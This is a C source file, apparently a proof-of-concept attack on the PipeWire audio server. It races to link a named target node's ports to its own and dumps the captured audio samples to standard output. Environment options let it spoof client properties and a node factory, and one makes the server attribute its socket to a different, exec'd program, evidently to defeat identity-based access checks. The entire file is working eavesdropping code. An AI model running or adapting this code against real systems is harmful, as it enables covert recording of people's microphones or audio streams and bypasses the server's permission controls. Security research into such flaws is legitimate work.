// A client that links itself to a node as fast as it can: attack NODE [MEDIA CLASS]
// At each event of the registry it asks for a link from every port of the node to every port of its own. It needs no
// session manager: its ports exist from the start, or with ATTACK_LATER after the node. The samples go to standard
// output. ATTACK_PROPERTIES are the claims of the client, and ATTACK_FACTORY is the claimed factory of its node. With ATTACK_EXEC, a child uses the connection, and the process
// that connected executes this program.
#include <pipewire/filter.h>
#include <pipewire/pipewire.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static struct pw_filter *recorder;
static struct pw_core *core;
static const char *target;
static void *inputs[2];
static uint32_t targetNode = SPA_ID_INVALID;
static struct {
  uint32_t id, node;
  int isInput;
} ports[1024];
static int portCount, attempts;

static void record(void *unused, struct spa_io_position *position) {
  uint32_t count = position->clock.duration;
  for (int channel = 0; channel < 2 && inputs[1]; channel++) {
    float *samples = pw_filter_get_dsp_buffer(inputs[channel], count);
    if (samples == NULL) continue;
    int16_t result[8192];
    for (uint32_t i = 0; i < count && i < 8192; i++) result[i] = samples[i] * 32767;
    if (write(1, result, count * 2) < 0) exit(1);
  }
}

static void attack(void) {
  uint32_t own = pw_filter_get_node_id(recorder);
  for (int output = 0; output < portCount; output++)
    for (int input = 0; input < portCount; input++) {
      if (ports[output].isInput || ports[output].node != targetNode) continue;
      if (!ports[input].isInput || ports[input].node != own || attempts > 100000) continue;
      char numbers[4][16];
      sprintf(numbers[0], "%u", ports[output].node);
      sprintf(numbers[1], "%u", ports[output].id);
      sprintf(numbers[2], "%u", ports[input].node);
      sprintf(numbers[3], "%u", ports[input].id);
      struct pw_properties *properties = pw_properties_new(
          PW_KEY_LINK_OUTPUT_NODE, numbers[0], PW_KEY_LINK_OUTPUT_PORT, numbers[1], PW_KEY_LINK_INPUT_NODE, numbers[2],
          PW_KEY_LINK_INPUT_PORT, numbers[3], PW_KEY_OBJECT_LINGER, "true", NULL);
      attempts++;
      pw_core_create_object(core, "link-factory", PW_TYPE_INTERFACE_Link, PW_VERSION_LINK, &properties->dict, 0);
      pw_properties_free(properties);
    }
}

static void appeared(void *unused, uint32_t id, uint32_t permissions, const char *type, uint32_t version,
                     const struct spa_dict *properties) {
  const char *name, *node, *direction;
  if (properties == NULL || target == NULL) return;
  if (strcmp(type, PW_TYPE_INTERFACE_Node) == 0) {
    name = spa_dict_lookup(properties, PW_KEY_NODE_NAME);
    if (name && strcmp(name, target) == 0) targetNode = id;
  }
  if (strcmp(type, PW_TYPE_INTERFACE_Port) == 0 && portCount < 1024) {
    node = spa_dict_lookup(properties, PW_KEY_NODE_ID);
    direction = spa_dict_lookup(properties, PW_KEY_PORT_DIRECTION);
    if (node == NULL || direction == NULL) return;
    ports[portCount].id = id;
    ports[portCount].node = atoi(node);
    ports[portCount++].isInput = strcmp(direction, "in") == 0;
  }
  attack();
}

static void addPorts(void) {
  for (int channel = 0; channel < 2; channel++)
    inputs[channel] = pw_filter_add_port(
        recorder, PW_DIRECTION_INPUT, PW_FILTER_PORT_FLAG_MAP_BUFFERS, 0,
        pw_properties_new(PW_KEY_FORMAT_DSP, "32 bit float mono audio", PW_KEY_PORT_NAME, channel ? "b" : "a", NULL), NULL, 0);
}

static void changed(void *unused, enum pw_filter_state old, enum pw_filter_state state, const char *error) {
  if (state == PW_FILTER_STATE_PAUSED && inputs[0] == NULL) addPorts();
  attack();
}

// The server takes this process for the client, although a child uses the connection.
static int connectAndExecute(const char *program) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s/pipewire-0", getenv("XDG_RUNTIME_DIR"));
  int connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connection < 0 || connect(connection, (struct sockaddr *)&address, sizeof address) < 0) exit(1);
  if (fork() > 0) {
    execl(program, program, "30", NULL);
    exit(1);
  }
  alarm(6);
  return connection;
}

static const struct pw_filter_events filterEvents = {PW_VERSION_FILTER_EVENTS, .process = record, .state_changed = changed};
static const struct pw_registry_events registryEvents = {PW_VERSION_REGISTRY_EVENTS, .global = appeared};

int main(int count, char **arguments) {
  struct spa_hook hooks[2] = {0};
  const char *program = getenv("ATTACK_EXEC"), *claims = getenv("ATTACK_PROPERTIES");
  int connection = program ? connectAndExecute(program) : -1;
  pw_init(NULL, NULL);
  target = arguments[1];
  struct pw_main_loop *loop = pw_main_loop_new(NULL);
  struct pw_context *context = pw_context_new(pw_main_loop_get_loop(loop), NULL, 0);
  struct pw_properties *properties = pw_properties_new_string(claims ? claims : "");
  core = program ? pw_context_connect_fd(context, connection, properties, 0) : pw_context_connect(context, properties, 0);
  if (core == NULL) return 1;
  struct pw_registry *registry = pw_core_get_registry(core, PW_VERSION_REGISTRY, 0);
  pw_registry_add_listener(registry, &hooks[0], &registryEvents, NULL);
  struct pw_properties *node = pw_properties_new(PW_KEY_MEDIA_TYPE, "Audio", PW_KEY_MEDIA_CLASS,
                                                 count > 2 ? arguments[2] : "Stream/Input/Audio", NULL);
  if (getenv("ATTACK_FACTORY")) pw_properties_set(node, "factory.name", getenv("ATTACK_FACTORY"));
  recorder = pw_filter_new(core, "attack", node);
  pw_filter_add_listener(recorder, &hooks[1], &filterEvents, NULL);
  if (!getenv("ATTACK_LATER")) addPorts();
  pw_filter_connect(recorder, PW_FILTER_FLAG_RT_PROCESS, NULL, 0);
  pw_main_loop_run(loop);
}
